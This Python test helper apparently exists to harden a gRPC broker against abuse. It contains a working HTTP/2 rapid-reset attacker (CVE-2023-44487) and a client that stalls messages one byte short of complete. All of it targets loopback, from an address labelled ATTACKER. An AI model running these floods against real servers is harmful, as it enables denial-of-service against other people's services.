"""A raw HTTP/2 gRPC client for tests that send what no gRPC library would: messages never finished,
calls without a message. Connects from another loopback address than the well-behaved clients
(127.0.0.1), so the broker counts it as another client address."""

from __future__ import annotations

import multiprocessing
import socket
import ssl
import struct
import time
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions

ATTACKER = "127.0.0.2"
RECEIVE_POLL_S = 0.02  # how long receive() waits for the server's frames
SEND_TIMEOUT_S = 30.0  # how long a send may wait for the server to read what its windows allowed


def grpc_request_headers(path: str, authority: str) -> list[tuple[str, str]]:
    """The HEADERS of a gRPC call to ``path`` (e.g. "/brook.BrokerService/Fetch")."""
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
            ("content-type", "application/grpc"), ("te", "trailers")]


def grpc_status(ev: Any) -> str | None:
    """The grpc-status an HTTP/2 event carries: in trailers, or in the headers of a trailers-only answer."""
    if isinstance(ev, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
        status = dict(ev.headers).get(b"grpc-status")
        return status.decode() if status is not None else None
    return None


def h2_connect(port: int, source: str, tls: ssl.SSLContext | None = None
               ) -> tuple[socket.socket, h2.connection.H2Connection]:
    """A TCP connection from ``source`` to 127.0.0.1:``port`` (TLS with ALPN h2 if ``tls``) and a client-side
    HTTP/2 connection on it, its preface queued (not yet sent)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind((source, 0))
    sock.connect(("127.0.0.1", port))
    if tls is not None:
        tls.set_alpn_protocols(["h2"])
        sock = tls.wrap_socket(sock, server_hostname="localhost")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    return sock, conn


class H2Sender:
    """A raw HTTP/2 client from ``source`` (``ATTACKER``) opening calls whose messages declare ``size`` bytes, and
    sending of each as much as the server's flow control allows but never its last byte."""

    def __init__(self, port: int, path: str, calls: int, size: int, source: str = ATTACKER,
                 tls: ssl.SSLContext | None = None) -> None:
        self.sock, self.conn = h2_connect(port, source, tls)
        self.sock.settimeout(RECEIVE_POLL_S)
        self.path, self.authority = path, f"127.0.0.1:{port}"
        self.left: dict[int, int] = {}
        self.ended: dict[int, str] = {}  # stream -> grpc-status (or "reset")
        self.sent = 0
        self.header = struct.pack(">BI", 0, size)
        self.message_bytes = 5 + size - 1  # all but the last byte
        for _ in range(calls):
            self._open()
        self._send(self.conn.data_to_send())

    def _open(self) -> None:
        sid = self.conn.get_next_available_stream_id()
        self.conn.send_headers(sid, grpc_request_headers(self.path, self.authority))
        self.left[sid] = self.message_bytes

    def refill(self) -> int:
        """A new call in place of each that ended (refused, or cancelled by the server); how many."""
        ended = [sid for sid in self.left if sid in self.ended]
        for sid in ended:
            del self.left[sid]
            self._open()
        if out := self.conn.data_to_send():
            self._send(out)
        return len(ended)

    def push(self, seconds: float) -> int:
        """Send what the windows allow for ``seconds``; the bytes sent in all."""
        until = time.monotonic() + seconds
        zeros = b"\x00" * 16384
        while time.monotonic() < until:
            for sid, left in self.left.items():
                n = min(self.conn.local_flow_control_window(sid), left, self.conn.max_outbound_frame_size)
                if sid in self.ended or n <= 0:
                    continue
                done = self.message_bytes - left
                self.conn.send_data(sid, (self.header[done:] + zeros)[:n])  # the 5-byte prefix first
                self.left[sid] -= n
                self.sent += n
            if out := self.conn.data_to_send():
                self._send(out)
            self.receive()
        return self.sent

    def push_until_held(self, timeout_s: float, quiet_s: float = 0.5) -> int:
        """Send until the server's flow control lets nothing more through for ``quiet_s``; the bytes
        sent in all. AssertionError if it still takes more after ``timeout_s``."""
        until = time.monotonic() + timeout_s
        before = -1
        while self.sent != before:
            assert time.monotonic() < until, f"the server still takes bytes after {timeout_s} s: {self.sent} sent"
            before = self.sent
            self.push(quiet_s)
        return self.sent

    def receive(self) -> None:
        try:
            data = self.sock.recv(65536)
        except (TimeoutError, BlockingIOError, ssl.SSLWantReadError):
            return
        if not data:
            return
        for ev in self.conn.receive_data(data):
            if status := grpc_status(ev):
                self.ended[ev.stream_id] = status
            elif isinstance(ev, h2.events.StreamReset):
                self.ended.setdefault(ev.stream_id, "reset")
        if out := self.conn.data_to_send():
            self._send(out)

    def _send(self, data: bytes) -> None:
        """All of ``data``, however long the server takes to read it: only what its flow control allowed
        is ever sent, and a busy server may leave it in the socket buffers a while. (With the short
        receive poll as the timeout, a send that waited 20 ms failed half-written under load.)"""
        self.sock.settimeout(SEND_TIMEOUT_S)
        try:
            self.sock.sendall(data)
        finally:
            self.sock.settimeout(RECEIVE_POLL_S)

    def close(self) -> None:
        self.sock.close()


class RapidResetter:
    """HTTP/2 rapid reset (CVE-2023-44487) from ``source``: on one connection, calls to ``path`` opened
    with a whole (empty) message and reset at once, as fast as the server takes the bytes, until
    ``stop``. In a process of its own, so that it runs at full speed beside the test's own clients.
    ``streams`` is how many calls it has sent; ``error`` what ended its connection early, if anything."""

    def __init__(self, port: int, path: str, source: str = ATTACKER) -> None:
        ctx = multiprocessing.get_context("spawn")  # no fork of a process holding gRPC's threads
        self._sent = ctx.Value("q", 0)
        self._stop = ctx.Event()
        self._errors = ctx.SimpleQueue()
        self._process = ctx.Process(target=_rapid_reset, name="rapid-reset", daemon=True,
                                    args=(port, path, source, self._sent, self._stop, self._errors))
        self._process.start()
        self._error: str | None = None

    @property
    def streams(self) -> int:
        return int(self._sent.value)

    @property
    def error(self) -> str | None:
        if self._error is None and not self._errors.empty():
            self._error = self._errors.get()
        return self._error

    def stop(self) -> None:
        self._stop.set()
        self._process.join(SEND_TIMEOUT_S)
        if self._process.is_alive():
            self._process.kill()
            self._process.join()


def _rapid_reset(port: int, path: str, source: str, sent: Any, stop: Any, errors: Any) -> None:
    sock, conn = h2_connect(port, source)
    sock.settimeout(SEND_TIMEOUT_S)
    headers = grpc_request_headers(path, f"127.0.0.1:{port}")
    empty = struct.pack(">BI", 0, 0)
    try:
        while not stop.is_set():
            for _ in range(64):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers)
                conn.send_data(sid, empty, end_stream=True)
                conn.reset_stream(sid)
            sock.sendall(conn.data_to_send())  # waits while the server does not read
            sent.value += 64
            # Take what the server sent (settings, pings, window updates) without waiting for it.
            sock.setblocking(False)
            try:
                while data := sock.recv(65536):
                    conn.receive_data(data)
            except BlockingIOError:
                pass
            finally:
                sock.settimeout(SEND_TIMEOUT_S)
    except (OSError, h2.exceptions.ProtocolError) as e:
        if not stop.is_set():
            errors.put(repr(e))
    finally:
        sock.close()
